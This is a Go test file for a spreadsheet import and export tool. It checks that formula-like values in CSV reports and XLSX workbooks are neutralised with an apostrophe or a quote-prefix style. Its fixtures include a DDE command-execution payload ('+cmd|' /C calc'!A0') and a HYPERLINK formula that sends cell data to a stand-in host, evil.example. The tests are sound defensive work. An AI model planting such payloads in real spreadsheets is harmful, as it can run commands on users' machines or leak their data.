package program

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"
)

func TestFormulaLike(t *testing.T) {
	tests := []struct {
		in   string
		want bool
	}{
		{"=1+1", true}, {"+cmd|' /C calc'!A0", true}, {"-2+3", true}, {"@SUM(A1)", true},
		{"\t=1", true}, {"\r=1", true}, {"＝1+1", true},
		{"", false}, {"张三", false}, {"a=1", false}, {" =1", false}, {"13800138000", false},
	}
	for _, tt := range tests {
		if got := FormulaLike(tt.in); got != tt.want {
			t.Errorf("FormulaLike(%q) = %v, want %v", tt.in, got, tt.want)
		}
		want := tt.in
		if tt.want {
			want = "'" + tt.in
		}
		if got := SafeCSV(tt.in); got != want {
			t.Errorf("SafeCSV(%q) = %q, want %q", tt.in, got, want)
		}
	}
}

// TestErrorCSVNeutralisesFormulas: the rejected-rows report (import
// --report) wrote =HYPERLINK(…) from the data verbatim. Read back, every
// formula-like field carries the apostrophe.
func TestErrorCSVNeutralisesFormulas(t *testing.T) {
	rows := [][]string{headings, goodRow(0, false), goodRow(1, false), goodRow(2, false), goodRow(3, false)}
	rows[1][col("姓名")] = `=HYPERLINK("http://evil.example/?"&A1,"点击")`
	rows[2][col("电子邮箱")] = "=1+1"
	rows[3][col("民族")] = "@SUM(1+1)"
	rows[4][col("性别")] = "-2+3"
	_, rep, err := importCSV(t, rows, ImportOptions{Partial: true})
	if err != nil {
		t.Fatal(err)
	}
	if rep.Rejected != 4 {
		t.Fatalf("rejected %d rows, want 4: %v", rep.Rejected, rep.Errors)
	}
	var b bytes.Buffer
	if err := rep.Errors.WriteCSV(&b); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(b.String(), "\uFEFF"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	values := map[string]bool{}
	for _, r := range recs {
		for _, c := range r {
			if FormulaLike(c) {
				t.Errorf("report cell %q would run as a formula", c)
			}
		}
		values[r[4]] = true
	}
	for _, want := range []string{`'=HYPERLINK("http://evil.example/?"&A1,"点击")`, "'=1+1", "'@SUM(1+1)", "'-2+3"} {
		if !values[want] {
			t.Errorf("report has no value %q; values: %v", want, values)
		}
	}
}

// TestSampleXLSXNeutralisesFormulas reopens the sample workbook: a
// formula-like value is a string cell with the quote-prefix style.
func TestSampleXLSXNeutralisesFormulas(t *testing.T) {
	p := testProgramme(t)
	apps := []Applicant{{Name: "=1+1", Employer: "+cmd|' /C calc'!A0", Bio: "@x", Field: "正常", Cohort: 1}}
	var b bytes.Buffer
	if err := SampleXLSX(&b, p, apps); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&b)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	for _, tt := range []struct {
		cell, want string
		quoted     bool
	}{{"C3", "=1+1", true}, {"L3", "+cmd|' /C calc'!A0", true}, {"N3", "@x", true}, {"K3", "正常", false}} {
		v, _ := f.GetCellValue("报名汇总", tt.cell)
		formula, _ := f.GetCellFormula("报名汇总", tt.cell)
		id, _ := f.GetCellStyle("报名汇总", tt.cell)
		xf := f.Styles.CellXfs.Xf[id]
		quoted := xf.QuotePrefix != nil && *xf.QuotePrefix
		if v != tt.want || formula != "" || quoted != tt.quoted {
			t.Errorf("%s: value %q formula %q quotePrefix %v, want %q, no formula, %v", tt.cell, v, formula, quoted, tt.want, tt.quoted)
		}
	}
}
